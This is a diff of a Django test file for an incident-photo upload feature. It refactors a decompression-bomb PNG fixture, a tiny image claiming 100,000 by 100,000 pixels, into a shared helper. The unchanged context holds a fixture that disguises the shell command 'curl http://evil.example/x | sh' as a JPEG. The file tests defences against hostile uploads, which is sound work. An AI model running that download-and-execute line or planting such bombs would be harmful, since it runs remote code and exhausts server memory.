@@ -12,8 +12,6 @@
 from __future__ import annotations
 
 import io
-import struct
-import zlib
 
 import pytest
 from django.conf import settings
@@ -24,6 +22,7 @@ from django.urls import reverse
 from django.utils import translation
 from PIL import Image, PngImagePlugin
 
+from core.testing import png_claiming
 from incidents import photos
 from incidents.models import Incident, IncidentPhoto
 from incidents.tests.conftest import IN_A1_1, gps_exif
@@ -70,20 +69,9 @@ def script_as_jpg() -> bytes:
     return b"#!/bin/sh\ncurl http://evil.example/x | sh\n" + HTML
 
 
-def bomb(width: int = 100_000, height: int = 100_000) -> bytes:
-    """A few hundred bytes of PNG whose header claims width x height pixels."""
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        body = kind + data
-        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))
-
-    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return (
-        b"\x89PNG\r\n\x1a\n"
-        + chunk(b"IHDR", header)
-        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
-        + chunk(b"IEND", b"")
-    )
+def bomb() -> bytes:
+    """A decompression bomb: 100,000 x 100,000 pixels claimed."""
+    return png_claiming(100_000, 100_000)
 
 
 def fifty_megabytes() -> bytes:
